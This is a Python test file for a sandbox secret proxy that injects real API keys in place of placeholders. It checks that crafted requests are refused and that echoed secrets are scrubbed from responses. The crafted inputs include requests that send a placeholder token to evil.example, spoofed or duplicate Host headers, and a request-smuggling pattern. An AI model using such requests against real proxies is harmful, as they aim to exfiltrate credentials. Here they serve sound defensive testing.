"""The secret proxy held to the TLS server name, without VMs: real sockets in this
process, a guest speaking TLS to :meth:`SecretProxy.handle` as the supervisor hands a
connection over, a stand-in HTTPS server on loopback (a test CA) that records what
arrives and answers as a hostile allowed host would (echoing, gzip'd, a reason phrase
of its choice). Each crafted request is refused with 400 and never reaches the server;
values go in the headers only unless the secret says ``substitute="all"``; nothing the
server sends back carries a value."""

from __future__ import annotations

import gzip
import ssl
import zlib
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import attrs
import h11
import pytest
import trio
import trustme

from actors.sandboxes.secrets import upstream_context
from actors.secrets import model as secrets_model
from actors.secrets.ca import Minter, new_ca
from actors.secrets.secretproxy import CHUNK, Blocked, Inflater, ProxyView, SecretProxy, _Refused, check_request

PH = "PH_TOKEN_0123456789abcdef"
ALL_PH = "PH_WHOLE_0123456789abcdef"
VALUE = b"sk-proxy-unit-0123456789-REAL"
ALL_VALUE = b"sk-everywhere-9876543210-REAL"


@attrs.define
class Got:
    method: bytes
    target: bytes
    headers: dict[bytes, bytes]
    body: bytes


@attrs.define
class Upstream:
    port: int
    seen: list[Got] = attrs.Factory(list)


def answer(got: Got) -> tuple[int, bytes, list[tuple[bytes, bytes]], bytes]:
    """(status, reason, headers, body) of the stand-in server: each path a way a host
    that echoes could carry a value back."""
    auth = got.headers.get(b"authorization", b"")
    echo = b"auth=" + auth + b" target=" + got.target + b" body=" + got.body
    if got.target == b"/gzip":  # compressed whatever the request's Accept-Encoding said
        return 200, b"OK", [(b"content-encoding", b"gzip")], gzip.compress(echo)
    if got.target == b"/br":
        return 200, b"OK", [(b"content-encoding", b"br")], b"\x0b\x02\x80" + auth
    if got.target == b"/reason":
        return 200, b"Your key is " + auth, [], b"ok"
    return 200, b"OK", [], echo


async def serve_one(stream: trio.SSLStream[trio.SocketStream], up: Upstream) -> None:
    conn = h11.Connection(h11.SERVER)
    req: Any = None
    body = b""
    try:
        with trio.fail_after(20):
            while True:
                ev = conn.next_event()
                if ev is h11.NEED_DATA:
                    conn.receive_data(bytes(await stream.receive_some(65536)))
                elif isinstance(ev, h11.Request):
                    req = ev
                elif isinstance(ev, h11.Data):
                    body += ev.data
                elif isinstance(ev, h11.EndOfMessage):
                    break
                else:
                    return
            got = Got(req.method, req.target, dict(req.headers), body)
            up.seen.append(got)
            status, reason, headers, data = answer(got)
            headers = [*headers, (b"content-length", str(len(data)).encode()), (b"connection", b"close")]
            await stream.send_all(conn.send(h11.Response(status_code=status, headers=headers, reason=reason)))
            await stream.send_all(conn.send(h11.Data(data=data)) + conn.send(h11.EndOfMessage()))
    except (trio.BrokenResourceError, trio.ClosedResourceError, ssl.SSLError, h11.ProtocolError):
        pass
    finally:
        await stream.aclose()


async def upstream_server(ca: trustme.CA, task_status: trio.TaskStatus[Upstream] = trio.TASK_STATUS_IGNORED) -> None:
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert("api.test").configure_cert(ctx)
    listeners = await trio.open_ssl_over_tcp_listeners(0, ctx, host="127.0.0.1")
    up = Upstream(listeners[0].transport_listener.socket.getsockname()[1])
    task_status.started(up)
    await trio.serve_listeners(lambda s: serve_one(s, up), listeners)


@attrs.define
class Lab:
    proxy: SecretProxy
    up: Upstream
    sandbox_ca: bytes
    blocked: list[Blocked]

    async def send(self, raw: bytes) -> bytes:
        """One guest connection (TLS to api.test, handed over with an upstream socket
        connected to the server): ``raw`` sent, everything that comes back."""
        guest, theirs = trio.socket.socketpair()
        up = trio.socket.socket()
        await up.connect(("127.0.0.1", self.up.port))
        out = b""
        async with trio.open_nursery() as nursery:
            nursery.start_soon(self.proxy.handle, theirs, ("127.0.0.1", 443), up, "")  # (as DNAT saw it)
            ctx = ssl.create_default_context(cadata=self.sandbox_ca.decode())
            stream = trio.SSLStream(trio.SocketStream(guest), ctx, server_hostname="api.test")
            await stream.send_all(raw)
            try:
                while chunk := await stream.receive_some(65536):
                    out += chunk
            except trio.BrokenResourceError:
                pass
            await stream.aclose()
        return out


@asynccontextmanager
async def lab(refs: list[secrets_model.SecretRef]) -> AsyncIterator[Lab]:
    ca = trustme.CA()
    cert, key = new_ca("t")
    minter = Minter(cert, key)
    values = {"TOKEN": VALUE, "WHOLE": ALL_VALUE, "OTHER": b"other-value-0123456789"}
    blocked: list[Blocked] = []
    view = ProxyView(
        refs=lambda: refs, value=lambda r: values.get(r.name), minter=lambda: minter, blocked=blocked.append
    )
    upstream = upstream_context()
    upstream.load_verify_locations(cadata=ca.cert_pem.bytes().decode())
    with trio.fail_after(60):
        async with trio.open_nursery() as nursery:
            up = await nursery.start(upstream_server, ca)
            yield Lab(SecretProxy(view, upstream=upstream), up, cert, blocked)
            nursery.cancel_scope.cancel()


def response(out: bytes) -> tuple[int, bytes, dict[bytes, bytes], bytes]:
    """(status, reason, headers, body) of one raw HTTP/1.1 response."""
    c = h11.Connection(h11.CLIENT)
    c.send(h11.Request(method="GET", target="/", headers=[("host", "api.test")]))
    c.send(h11.EndOfMessage())
    c.receive_data(out)
    c.receive_data(b"")
    status, reason, headers, data = 0, b"", {}, b""
    while not isinstance(ev := c.next_event(), (h11.EndOfMessage, h11.ConnectionClosed)):
        if isinstance(ev, h11.Response):
            status, reason, headers = ev.status_code, ev.reason, dict(ev.headers)
        elif isinstance(ev, h11.Data):
            data += ev.data
    return status, reason, headers, data


TOKEN = secrets_model.SecretRef("TOKEN", ("api.test",), placeholder=PH)
WHOLE = secrets_model.SecretRef("WHOLE", ("api.test",), placeholder=ALL_PH, substitute=secrets_model.ALL)


def req(head: str, body: bytes = b"") -> bytes:
    return head.replace("\n", "\r\n").encode() + b"\r\n" + body


CRAFTED = {
    # an absolute-form target (a front end routes by its authority), even one naming the SNI
    "absolute-form": req(f"GET https://evil.example/c?k={PH} HTTP/1.1\nHost: api.test\nConnection: close\n"),
    "absolute-form, same name": req(f"GET https://api.test/c?k={PH} HTTP/1.1\nHost: api.test\n"),
    "CONNECT": req(f"CONNECT api.test:443 HTTP/1.1\nHost: api.test:443\nAuthorization: Bearer {PH}\n"),
    "asterisk": req(f"OPTIONS * HTTP/1.1\nHost: api.test\nAuthorization: Bearer {PH}\n"),
    "empty Host": req(f"GET / HTTP/1.1\nHost:\nAuthorization: Bearer {PH}\n"),
    "no Host (HTTP/1.0)": req(f"GET / HTTP/1.0\nAuthorization: Bearer {PH}\n"),
    "two Hosts": req(f"GET / HTTP/1.1\nHost: api.test\nHost: evil.example\nAuthorization: Bearer {PH}\n"),
    "userinfo Host": req(f"GET / HTTP/1.1\nHost: api.test:1@evil.example\nAuthorization: Bearer {PH}\n"),
    "another name": req(f"GET / HTTP/1.1\nHost: evil.example\nAuthorization: Bearer {PH}\n"),
    "a longer name": req(f"GET / HTTP/1.1\nHost: api.test.evil.example\nAuthorization: Bearer {PH}\n"),
    "another port": req(f"GET / HTTP/1.1\nHost: api.test:8443\nAuthorization: Bearer {PH}\n"),
    "both lengths": req(
        f"POST / HTTP/1.1\nHost: api.test\nAuthorization: Bearer {PH}\nContent-Length: 4\nTransfer-Encoding: chunked\n",
        b"0\r\n\r\n",
    ),
    "not HTTP": b"GARBAGE\r\n\r\n",
}


@pytest.mark.parametrize("case", sorted(CRAFTED))
async def test_crafted_requests_are_refused_with_400_and_never_forwarded(case: str) -> None:
    async with lab([TOKEN]) as t:
        out = await t.send(CRAFTED[case])
        assert response(out)[0] == 400, (case, out)
        assert VALUE not in out and t.up.seen == [], case


def test_the_request_check_itself() -> None:
    def check(target: bytes, host: bytes | None, port: int = 443, method: bytes = b"GET") -> None:
        headers = [(b"host", host)] if host is not None else []
        check_request(h11.Request(method=method, target=target, headers=headers, http_version="1.0"), "api.test", port)

    check(b"/x?y=1", b"api.test")
    check(b"/", b"API.TEST")
    check(b"/", b"api.test:8443", 8443)
    check(b"/", b"api.test:443")
    for target, host, port in (
        (b"https://api.test/", b"api.test", 443),
        (b"*", b"api.test", 443),
        (b"/", b"api.test:", 443),
        (b"/", b"api.test:0443x", 443),
        (b"/", b"api.test.", 443),
        (b"/", b"evil@api.test", 443),
        (b"/", b"", 443),
        (b"/", None, 443),
    ):
        with pytest.raises(_Refused) as refused:
            check(target, host, port)
        assert refused.value.status == 400


async def test_values_go_in_the_headers_only_unless_the_secret_says_all() -> None:
    async with lab([TOKEN, WHOLE]) as t:
        body = f"a={PH}&b={ALL_PH}".encode()
        out = await t.send(
            req(
                f"POST /p?a={PH}&b={ALL_PH} HTTP/1.1\nHost: api.test\nAuthorization: Bearer {PH}\n"
                f"X-Other: {ALL_PH}\nContent-Length: {len(body)}\nConnection: close\n",
                body,
            )
        )
        assert response(out)[0] == 200
        (got,) = t.up.seen
        assert got.headers[b"authorization"] == b"Bearer " + VALUE and got.headers[b"x-other"] == ALL_VALUE
        # the headers-only secret's placeholder goes as it is in the target and body; the other's is replaced
        assert got.target == f"/p?a={PH}&b=".encode() + ALL_VALUE
        assert got.body == f"a={PH}&b=".encode() + ALL_VALUE
        assert got.headers[b"content-length"] == str(len(got.body)).encode()
        # and the echo of all of it comes back scrubbed
        assert VALUE not in out and ALL_VALUE not in out and PH.encode() in out and ALL_PH.encode() in out


async def test_a_headers_only_proxy_streams_bodies_as_they_come() -> None:
    async with lab([TOKEN]) as t:
        chunks = b"5\r\nhello\r\n0\r\n\r\n"
        out = await t.send(
            req(
                f"PUT /s HTTP/1.1\nHost: api.test\nAuthorization: Bearer {PH}\nTransfer-Encoding: chunked\n"
                "Connection: close\n",
                chunks,
            )
        )
        assert response(out)[0] == 200
        (got,) = t.up.seen
        assert got.body == b"hello" and got.headers[b"transfer-encoding"] == b"chunked"
        assert b"content-length" not in got.headers


async def test_a_compressed_echo_is_inflated_and_scrubbed() -> None:
    async with lab([TOKEN]) as t:
        out = await t.send(
            req(
                f"GET /gzip HTTP/1.1\nHost: api.test\nAuthorization: Bearer {PH}\nAccept-Encoding: gzip, br\n"
                "Connection: close\n"
            )
        )
        (got,) = t.up.seen
        assert got.headers[b"accept-encoding"] == b"identity"  # (asked for; this server ignores it)
        assert got.headers[b"authorization"] == b"Bearer " + VALUE
        status, _, headers, body = response(out)
        assert status == 200 and b"content-encoding" not in headers
        assert body.startswith(b"auth=Bearer " + PH.encode()) and VALUE not in body
        # an encoding the scrubber cannot read: refused, nothing of it passed on
        out = await t.send(req(f"GET /br HTTP/1.1\nHost: api.test\nAuthorization: Bearer {PH}\nConnection: close\n"))
        assert response(out)[0] == 502 and VALUE not in out


def test_the_inflater_takes_pieces_members_and_bombs_in_bounded_steps() -> None:
    big = b"a" * (4 << 20)
    packed = gzip.compress(b"first:" + VALUE) + gzip.compress(big)
    inflate = Inflater()
    pieces = [p for i in range(0, len(packed), 7) for p in inflate.feed(packed[i : i + 7])]
    assert b"".join(pieces) + inflate.flush() == b"first:" + VALUE + big
    assert max(len(p) for p in pieces) <= CHUNK
    with pytest.raises(zlib.error):
        Inflater().feed(b"not compressed at all")


async def test_the_reason_phrase_is_the_standard_one() -> None:
    async with lab([TOKEN]) as t:
        out = await t.send(
            req(f"GET /reason HTTP/1.1\nHost: api.test\nAuthorization: Bearer {PH}\nConnection: close\n")
        )
        status, reason, _, body = response(out)
        assert (status, reason, body) == (200, b"OK", b"ok") and VALUE not in out and PH.encode() not in out


async def test_a_placeholder_for_another_host_is_still_403() -> None:
    other = secrets_model.SecretRef("OTHER", ("other.test",), placeholder="PH_OTHER_0123456789abcdef")
    async with lab([TOKEN, other]) as t:
        out = await t.send(
            req("GET / HTTP/1.1\nHost: api.test\nAuthorization: Bearer PH_OTHER_0123456789abcdef\nConnection: close\n")
        )
        assert response(out)[0] == 403 and t.up.seen == [] and t.blocked == [Blocked("OTHER", "api.test", 443)]
